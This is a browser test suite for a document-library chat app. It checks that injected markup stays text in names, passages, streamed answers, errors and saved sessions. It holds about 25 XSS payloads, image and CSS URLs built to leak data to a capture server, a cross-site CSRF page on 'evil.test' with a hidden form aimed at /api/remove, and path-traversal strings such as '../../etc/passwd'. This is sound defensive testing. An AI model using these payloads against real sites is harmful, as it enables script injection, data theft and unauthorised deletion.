"""Hostile text on the page: in titles, paths, headings, tables, passages, citations and answers, whole and cut in pieces while they stream, and
again after a reload and in what is saved. It stays text: no script runs, no dialog opens, nothing is fetched, no link can be followed."""

from __future__ import annotations

import json
import threading
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import TYPE_CHECKING, Any

import httpx
import pytest

from browser import serving
from yinju import Library
from yinju.caring import LibraryOptions
from yinju.testing import FakeEmbedder, ScriptedChatModel
from yinju.types import Document

if TYPE_CHECKING:
    from browser import Visit

pytestmark = pytest.mark.browser
Visiting = Callable[..., "Visit"]


class Sink:
    """A server that counts whoever comes."""

    def __init__(self) -> None:
        self.seen: list[str] = []
        outer = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                outer.seen.append(self.path)
                self.send_response(204)
                self.end_headers()

            do_POST = do_HEAD = do_OPTIONS = do_GET

            def log_message(self, *_arguments: object) -> None:
                pass

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.address = f"http://127.0.0.1:{self._server.server_port}"
        self._thread = threading.Thread(target=self._server.serve_forever, kwargs={"poll_interval": 0.05})
        self._thread.start()

    def close(self) -> None:
        self._server.shutdown()
        self._server.server_close()
        self._thread.join(5)


@pytest.fixture
def sink() -> Iterator[Sink]:
    made = Sink()
    yield made
    made.close()


def attacks(address: str) -> list[str]:
    """Return what would run, open or fetch something if any of it ever became more than text."""
    return [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(2)>",
        f"<img src={address}/img>",
        "<svg onload=alert(3)><animate onbegin=alert(4) attributeName=x></svg>",
        "<svg><style><img src=x onerror=alert(5)></style></svg>",
        "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=1 onerror=alert(6)>'>",
        "<noscript><p title='</noscript><img src=x onerror=alert(7)>'>",
        "<iframe srcdoc='<script>parent.alert(8)</script>'></iframe>",
        "<a href=javascript:alert(9)>click</a>",
        "[click](javascript:alert(10))",
        "[click](JaVaScRiPt:alert(11))",
        "[click](java\tscript:alert(12))",
        "[click](&#106;avascript:alert(13))",
        "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        f"![picture]({address}/?q=secret)",
        f"![picture][ref] [ref]: {address}/reference",
        f"<{address}/autolink>",
        f"{address}/bare",
        f"<link rel=prefetch href={address}/prefetch><meta http-equiv=refresh content='0;url={address}/refresh'>",
        f"<div style='background:url({address}/css)'>x</div>",
        "\" onmouseover=alert(14) x=\"",
        "' autofocus onfocus=alert(15) '",
        "{{constructor.constructor('alert(16)')()}}",
        "</textarea></title></style><script>alert(17)</script>",
        "\u202egnp.exe\u2066 [1](/api/read?source=../../etc/passwd)",
    ]  # fmt: skip


NAME = "价目<img src=x onerror=alert(20)> \"'><script>alert(21)</script>.md"
OTHER = "../..\\javascript:alert(22)?source=#.md"


def hostile(address: str) -> list[Document]:
    all_of_it = attacks(address)
    lines = [one.replace("|", "/").replace("\n", " ") for one in all_of_it]
    headed = "\n\n".join(
        f"## 年费 {one}\n\n年费方案每年 {number} 元 {one}。" for number, one in enumerate(lines, start=100)
    )
    rows = "\n".join(f"| 月费{number} | {one} |" for number, one in enumerate(lines))
    return [
        Document.from_text(
            f"# 订阅方案 {lines[0]}\n\n{headed}\n",
            source=NAME,
            title=lines[1],
            metadata={"author": lines[0]},
        ),
        Document.from_text(f"# 表格\n\n| 方案 {lines[1]} | 说明 |\n|---|---|\n{rows}\n", source=OTHER),
        Document.from_text("plain " + "\n".join(lines), source="plain.txt"),
    ]


def opened(address: str, *scripts: object, folder: Path | None = None) -> Library:
    library = Library.open(folder, embedder=FakeEmbedder(), chat_model=ScriptedChatModel(*scripts) if scripts else None)
    library.options = LibraryOptions(refuse_below=0, limit=12)
    library.add(hostile(address))
    return library


# Elements of ours: whatever else stands in the page came from a text. Attributes that run something are none of ours.
ELEMENTS = """() => {
  const bad = [];
  for (const one of document.querySelectorAll('body *')) {
    const name = one.localName;
    if (['script', 'iframe', 'object', 'embed', 'link', 'meta', 'base', 'style', 'math', 'form[action]'].includes(name)) bad.push(one.outerHTML);
    if (name === 'img' && !one.src.startsWith('blob:')) bad.push(one.outerHTML);
    if (name === 'a' && !/^#(ask|library|inspect|quality|view)$/.test(one.getAttribute('href'))) bad.push(one.outerHTML);
    for (const { name: key, value } of one.attributes) {
      if (key.startsWith('on') || ['srcdoc', 'formaction', 'action', 'xlink:href', 'background'].includes(key)) bad.push(one.outerHTML);
      if (['href', 'src'].includes(key) && /script|data:|https?:/i.test(value) && !value.startsWith('blob:')) bad.push(one.outerHTML);
    }
  }
  return bad;
}"""


def check(seen: Visit, sink: Sink) -> None:
    assert seen.page.evaluate(ELEMENTS) == []
    assert seen.page.url.startswith(seen.address)
    assert sink.seen == []
    seen.check()


def touch_everything(seen: Visit) -> None:
    """Hover and focus every mark, and open every source that is offered."""
    page = seen.page
    for mark in page.locator(".mark").all()[:6]:
        mark.focus()
        page.keyboard.press("Escape")
    for button in page.locator(".citations:visible button, .nearest button").all()[:5]:
        button.focus()
        page.keyboard.press("Enter")
        page.wait_for_selector(".source .line, .source .rows, .source .bad")
        page.keyboard.press("Escape")


@pytest.mark.parametrize("language", ["zh", "en"])
def test_passages_headings_tables_and_names(sink: Sink, visit: Visiting, language: str) -> None:
    question = "年费方案每年多少元？" if language == "zh" else "plain script alert"
    with opened(sink.address) as library, serving(library) as address:
        seen = visit(address, language=language)
        seen.ask(question)
        touch_everything(seen)
        check(seen, sink)
        seen.ask("方案 月费3 的说明")
        touch_everything(seen)
        check(seen, sink)
        seen.shoot(f"hostile-{language}", whole=True)


@pytest.mark.parametrize("piece", [1, 3, 7, None])
def test_what_a_model_writes_whole_and_in_pieces(sink: Sink, visit: Visiting, piece: int | None) -> None:
    answer = "\n\n".join(f"年费方案每年 {n} 元 {one} [1]。" for n, one in enumerate(attacks(sink.address), start=100))
    pieces = [answer[at : at + piece] for at in range(0, len(answer), piece)] if piece else [answer]
    with opened(sink.address, pieces) as library, serving(library) as address:
        seen = visit(address, language="zh")
        seen.ask("年费方案每年多少元？")
        said = seen.page.inner_text(".said")
        assert "<script>alert(1)</script>" in said
        assert f"![picture]({sink.address}/?q=secret)" in said
        check(seen, sink)
        seen.page.reload()
        seen.page.wait_for_selector(".turn .said")
        assert "<script>alert(1)</script>" in seen.page.inner_text(".said")
        check(seen, sink)
        touch_everything(seen)
        seen.ask("<img src=x onerror=alert(30)> 那月费呢？")
        check(seen, sink)
        with seen.page.expect_download() as got:
            seen.page.get_by_role("button", name="存为文本").click()
        assert got.value.suggested_filename == "yinju.txt"
        assert "<script>alert(1)</script>" in Path(got.value.path()).read_text("utf-8")
        check(seen, sink)


def test_text_that_is_cut_while_it_comes_never_becomes_markup(sink: Sink, visit: Visiting) -> None:
    """The page is looked at after every piece, while the model waits."""
    steps = [
        "<img src=x one",
        "rror=ale",
        "rt(1)> <scr",
        "ipt>alert(2)</scr",
        f"ipt> ![a]({sink.address}",
        "/x) [",
        "1",
        "]。",
    ]
    may = threading.Semaphore(0)

    def script(_messages: object) -> Iterator[str]:
        for step in steps:
            yield f"年费方案每年 168 元 {step}"
            assert may.acquire(timeout=20)

    with opened(sink.address, script) as library, serving(library) as address:
        seen = visit(address, language="zh")
        seen.ask("年费方案每年多少元？", wait=False)
        for _ in steps:
            seen.page.wait_for_timeout(60)
            assert seen.page.evaluate(ELEMENTS) == []
            may.release()
        seen.page.wait_for_selector(".answer[aria-busy=false]")
        check(seen, sink)


def test_errors_notices_and_steps_are_text(sink: Sink, visit: Visiting) -> None:
    """What another program put into the answers and errors of the server."""
    bad = attacks(sink.address)
    with opened(sink.address) as library, serving(library) as address:
        seen = visit(address)
        seen.expected.append("Failed to load resource")
        page = seen.page

        def answer(route: Any) -> None:
            answered = {
                "question": bad[0], "text": "\n".join(bad), "searched_as": bad[1], "refused": True, "reason": bad[2], "complete": False,
                "model": bad[1], "evidence": 0.1, "sentences": [], "failure": bad[0], "notices": bad, "context": None, "took_ms": {},
                "citations": [{"marker": 1, "id": bad[1], "source": bad[1], "document": "d", "headings": bad, "lines": None, "page": None,
                               "span": [0, 5], "quote": bad[0], "status": bad[0]}],
                "nearest": [{"source": bad[2], "headings": bad, "lines": [1, 2], "page": None, "span": [0, 4], "text": bad[1]}],
                "steps": [{"tool": bad[0], "arguments": bad[1], "outcome": bad[2], "markers": [1]}],
            }  # fmt: skip
            body = f"event: answer\ndata: {json.dumps(answered)}\n\n"
            route.fulfill(body=body, content_type="text/event-stream")

        page.route("**/api/ask", answer)
        seen.ask("x")
        page.click("details.folded summary")
        page.locator(".mark").first.focus()
        check(seen, sink)
        seen.shoot("hostile-answer", whole=True)
        page.unroute("**/api/ask")
        error = json.dumps({"error": {"code": bad[0], "message": bad[1], "hint": bad[2]}})
        page.route("**/api/ask", lambda route: route.fulfill(status=500, body=error, content_type="application/json"))
        seen.ask("y")
        page.route("**/api/view*", lambda route: route.fulfill(status=500, body=error, content_type="application/json"))
        page.locator(".citations button").first.click()
        page.wait_for_selector(".source .bad")
        check(seen, sink)


def test_a_kept_conversation_that_was_changed_runs_nothing(sink: Sink, visit: Visiting) -> None:
    with opened(sink.address) as library, serving(library) as address:
        seen = visit(address)
        kept = json.dumps(
            [{"question": one, "text": one, "error": one, "citations": []} for one in attacks(sink.address)]
        )
        for stored in (kept, "[1, null, {}]", '{"a": 1}', "not json", '[{"question": "x", "answer": {"text": 1}}]'):
            seen.page.evaluate("stored => sessionStorage.setItem('yinju-conversation', stored)", stored)
            seen.page.reload()
            seen.page.wait_for_selector("#question")
            check(seen, sink)


@pytest.mark.parametrize("view", ["library", "inspect", "quality"])
def test_the_other_views_with_hostile_names(sink: Sink, visit: Visiting, view: str, tmp_path: Path) -> None:
    with opened(sink.address, folder=tmp_path / "kept") as library, serving(library) as address:
        seen = visit(address, view, language="zh")
        page = seen.page
        if view == "library":
            page.locator(".name-cell button").first.wait_for()
            for button in page.locator(".name-cell button").all():
                button.click()
                page.wait_for_selector(".source .account, .source .bad")
        elif view == "inspect":
            page.locator("form input, form textarea").first.fill("年费方案 <img src=x onerror=alert(1)>")
            page.locator("form button[type=submit]").first.click()
            page.wait_for_selector(".ranked")
        check(seen, sink)
        seen.shoot(f"hostile-{view}", whole=True)


def test_other_sites_can_neither_frame_nor_post(sink: Sink, visit: Visiting) -> None:
    """S15 and S20 as a browser does them: a page of another origin with a frame, a form, and a request that says it is text."""
    del sink
    with opened("http://127.0.0.1:9") as library, serving(library) as address:
        before = library.status()
        seen = visit(address)
        page = seen.page
        seen.expected += ["console", "error:", "Failed", "frame", "request:", "Refused"]
        evil = "http://evil.test/"
        html = (
            f"<iframe src='{address}/'></iframe>"
            f"<form method=post enctype='text/plain' action='{address}/api/remove' target=into>"
            '<input name=\'{"sources":["plain.txt"],"a":"\' value=\'"}\'></form>'
            "<iframe name=into></iframe>"
        )
        page.route(evil, lambda route: route.fulfill(body=html, content_type="text/html"))
        answers: list[tuple[str, int]] = []
        page.on("response", lambda got: answers.append((got.url, got.status)))
        page.goto(evil)
        page.evaluate("document.forms[0].submit()")
        sent = page.evaluate(
            """async (address) => {
                const post = (route, more) => fetch(address + route, {method: 'POST', mode: 'no-cors', ...more}).then(r => r.type, () => 'failed');
                const results = [];
                for (const type of ['text/plain', 'application/x-www-form-urlencoded'])
                    results.push(await post('/api/remove', {body: '{"sources":["plain.txt"]}', headers: {'Content-Type': type}}));
                const data = new FormData();
                data.append('files', new Blob(['x']), 'x.md');
                return [...results, await post('/api/upload', {body: data})];
            }""",
            address,
        )
        assert set(sent) <= {"opaque", "failed"}
        seen.page.wait_for_timeout(200)
        assert all(status in (403, 0) for url, status in answers if "/api/" in url), answers
        framed = [frame for frame in page.frames if frame.url.startswith(address)]
        assert all(frame.query_selector("#question") is None for frame in framed)
        assert library.status() == before
        headers = httpx.get(address).headers
        assert "frame-ancestors 'none'" in headers["content-security-policy"]
        assert headers["x-frame-options"] == "DENY"
        cross = {"origin": "http://evil.test", "content-type": "application/json"}
        assert httpx.post(f"{address}/api/remove", headers=cross, json={"sources": ["plain.txt"]}).status_code == 403


def test_no_route_of_a_document_leaves_the_library(sink: Sink, visit: Visiting) -> None:
    """S14: sources are names in the library, whatever they look like; a foreign one opens nothing."""
    with opened(sink.address) as library, serving(library) as address:
        seen = visit(address)
        found = seen.page.evaluate(
            """async (names) => {
                const results = [];
                for (const name of names) for (const route of ['read', 'view', 'boxes', 'page', 'outline', 'receipt'])
                    results.push((await fetch(`/api/${route}?${new URLSearchParams({source: name, start: 0, end: 1})}`)).status);
                return results;
            }""",
            [
                "../../etc/passwd",
                "/etc/passwd",
                "file:///etc/passwd",
                "..\\..\\windows\\win.ini",
                "plain.txt/../plain.txt",
            ],
        )
        assert set(found) == {404}
        seen.expected.append("Failed to load resource")
        names = httpx.get(f"{address}/api/view", params={"source": OTHER, "start": 0, "end": 1}).json()
        assert names["source"] == OTHER
        assert httpx.get(f"{address}/page/..%2fguard.py").status_code == 404
